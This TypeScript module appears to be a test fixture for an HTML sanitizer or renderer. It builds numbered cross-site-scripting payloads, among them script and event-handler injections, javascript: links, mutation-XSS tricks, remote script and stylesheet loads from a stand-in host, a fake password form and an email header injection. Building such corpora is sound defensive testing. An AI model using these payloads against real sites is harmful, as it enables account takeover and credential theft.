/** Stands in a payload for its own number, which the hook reports. */
const HIT = '__xss(NUMBER)';

const TEMPLATES = String.raw`
<script>HIT</script>
<ScRiPt>HIT</sCrIpT>
<script >HIT</script >
<script/x>HIT</script>
<script src=https://xss.invalid/NUMBER.js></script>
<script src=data:text/javascript,HIT></script>
<script type=module>HIT</script>
"><script>HIT</script>
'><script>HIT</script>
</title><script>HIT</script>
</textarea><script>HIT</script>
</style><script>HIT</script>
</noscript><script>HIT</script>
</script><script>HIT</script>
</option></select><script>HIT</script>
</template><script>HIT</script>
</svg><script>HIT</script>
]]><script>HIT</script>
--><script>HIT</script>
--!><script>HIT</script>
*/</script><script>HIT</script>
<<script>HIT//<</script>
<scr<script>ipt>HIT</scr</script>ipt>
<img src=x onerror=HIT>
<img src=x onerror="HIT">
<img src=x onerror='HIT'>
<img src="x" onerror=${'`'}HIT${'`'}>
<img/src=x/onerror=HIT>
<IMG SRC=x OnErRoR=HIT>
<img src=x onerror	=	HIT>
<img src=x:x onerror=HIT//
<img """><img src=x onerror=HIT>">
<img src=1 href=1 onerror="HIT">
<img srcset=x onerror=HIT>
<image src=x onerror=HIT>
<img src=x one&#114;ror=HIT onerror=HIT>
<img src=x onerror=&#95;&#95;xss&#40;NUMBER&#41;>
<img src=x onerror=eval(atob('X19nb3Q='))||HIT>
<img src=x onload=HIT><img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=HIT>
" onerror="HIT" src="x
' onerror='HIT' src='x
" autofocus onfocus="HIT" x="
' autofocus onfocus='HIT' x='
" onmouseover="HIT" style="position:fixed;inset:0" x="
" onanimationstart="HIT" style="animation:x 1s" x="
x onerror=HIT
<svg onload=HIT>
<svg/onload=HIT>
<svg><script>HIT</script></svg>
<svg><script href=data:text/javascript,HIT /></svg>
<svg><script xlink:href=data:text/javascript,HIT></script></svg>
<svg><animate onbegin=HIT attributeName=x dur=1s>
<svg><set onbegin=HIT attributeName=x dur=1s>
<svg><a xlink:href=javascript:HIT><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='HIT'/></svg>#x">
<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>
<svg><desc><img src=x onerror=HIT></desc></svg>
<svg><title><style><img src=x onerror=HIT></style></title></svg>
<svg><style><img src=x onerror=HIT></style></svg>
<svg></p><style><a id="</style><img src=x onerror=HIT>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=HIT&gt;">
<math><mi//xlink:href="data:x,<script>HIT</script>">
<math href=javascript:HIT>x</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=HIT></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT>
<noscript><p title="</noscript><img src=x onerror=HIT>">
<template><img src=x onerror=HIT></template>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=HIT>">
<xmp><p title="</xmp><img src=x onerror=HIT>">
<iframe src=javascript:HIT></iframe>
<iframe srcdoc="<script>parent.HIT</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.HIT&gt;"></iframe>
<iframe src="data:text/html,<script>HIT</script>"></iframe>
<iframe src=https://xss.invalid/NUMBER></iframe>
<iframe onload=HIT></iframe>
<iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ" onload=HIT></iframe>
<object data=javascript:HIT></object>
<object data="data:text/html,<script>HIT</script>"></object>
<embed src=javascript:HIT>
<applet code=https://xss.invalid/NUMBER></applet>
<frameset onload=HIT></frameset>
<body onload=HIT>
<body onpageshow=HIT>
<html onmouseover=HIT>
<a href=javascript:HIT>x</a>
<a href="JaVaScRiPt:HIT">x</a>
<a href=" javascript:HIT">x</a>
<a href="java	script:HIT">x</a>
<a href="&#106;avascript:HIT">x</a>
<a href="javascript&colon;HIT">x</a>
<a href="&#1;javascript:HIT">x</a>
<a href="data:text/html,<script>HIT</script>">x</a>
<a href="vbscript:HIT">x</a>
<a href=https://example.org onclick=HIT>x</a>
<a href=https://example.org autofocus tabindex=1 onfocus=HIT>x</a>
<form action=javascript:HIT><input type=submit value=x></form>
<form action=https://xss.invalid/NUMBER><input name=password><button>Sign in</button></form>
<button formaction=javascript:HIT>x</button>
<input autofocus onfocus=HIT>
<input type=image src=x onerror=HIT>
<select autofocus onfocus=HIT></select>
<textarea autofocus onfocus=HIT></textarea>
<keygen autofocus onfocus=HIT>
<details open ontoggle=HIT>x</details>
<dialog open onclose=HIT>x</dialog>
<marquee onstart=HIT>x</marquee>
<video src=x onerror=HIT></video>
<video><source onerror=HIT></video>
<video poster=javascript:HIT></video>
<audio src=x onerror=HIT></audio>
<style>@import 'https://xss.invalid/NUMBER.css';</style>
<style>*{animation:x 1s}@keyframes x{}</style><p onanimationstart=HIT>x</p>
<p style="animation:spin 1s" onanimationend=HIT>x</p>
<p style="background:url(javascript:HIT)">x</p>
<p style="behavior:url(https://xss.invalid/NUMBER)">x</p>
<link rel=stylesheet href=https://xss.invalid/NUMBER.css>
<link rel=import href=https://xss.invalid/NUMBER>
<link rel=modulepreload onload=HIT href=/>
<base href=https://xss.invalid/NUMBER/>
<meta http-equiv=refresh content="0;url=javascript:HIT">
<meta http-equiv=refresh content="0;url=https://xss.invalid/NUMBER">
<img name=getElementById><form name=body><input name=attributes></form>
<a id=__xss></a><form id=state></form>
javascript:HIT
javascript://%0aHIT
data:text/html,<script>HIT</script>
https://example.org/"onmouseover="HIT
https://example.org/'onerror='HIT
[x](javascript:HIT)
![x](x"onerror="HIT)
{{constructor.constructor('HIT')()}}
${'$'}{HIT}
<%= HIT %>
#{HIT}
";HIT;"
';HIT;'
\";HIT;//
</script\x3e<script>HIT</script>
\u003cscript\u003eHIT\u003c/script\u003e
%3Cscript%3EHIT%3C/script%3E
&lt;script&gt;HIT&lt;/script&gt;
+ADw-script+AD4-HIT+ADw-/script+AD4-
＜script＞HIT＜/script＞
Asha%0d%0aBcc: thief@xss.invalid
Asha <script>HIT</script> देशपांडे ‮<img src=x onerror=HIT>
<!-- <img src=x onerror=HIT> --><img title="--><img src=x onerror=HIT>">
<!--[if gte IE 4]><script>HIT</script><![endif]-->
<![CDATA[<img src=x onerror=HIT>]]>
<?xml version="1.0"?><?xml-stylesheet href="javascript:HIT"?>
<plaintext><img src=x onerror=HIT>`;

function numbered(templates: string, first: number): string[] {
  const lines = templates.replace(/^\n/, '').split('\n');
  return lines.map((line, index) => line.replaceAll('HIT', HIT).replaceAll('NUMBER', String(first + index)));
}

/** Payloads that would call `__xss` with their number, ask `xss.invalid`, or leave a handler in the page. */
export const xssPayloads: readonly string[] = numbered(TEMPLATES, 0);

const LINK_TEMPLATES = String.raw`
javascript:HIT
JAVASCRIPT:HIT
 javascript:HIT
java	script:HIT
javascript://example.org/%0aHIT
data:text/html,<script>HIT</script>
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="HIT"/>
vbscript:HIT
//xss.invalid/NUMBER"onerror="HIT
https://xss.invalid/NUMBER.jpg"onerror="HIT" x="
https://xss.invalid/NUMBER.jpg'onerror='HIT' x='
https://xss.invalid/NUMBER.jpg)}</style><script>HIT</script>
https://www.youtube.com/embed/"onload="HIT
https://www.youtube.com/watch?v=aqz-KE-bpKQ"></iframe><script>HIT</script>
https://www.instagram.com/p/x"><img src=x onerror=HIT>/
/art/scene-lamp.svg"onerror="HIT" x="`;

/** Addresses that would run, or break out of their attribute. */
export const linkPayloads: readonly string[] = numbered(LINK_TEMPLATES, 500);

/** Joins payloads to texts of at most so many characters. */
export function joined(payloads: readonly string[], length: number): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length < length) texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload);
  }
  return texts;
}

/** The payloads as texts of at most so many characters. */
export const payloadTexts = (length: number): string[] => joined(xssPayloads, length);
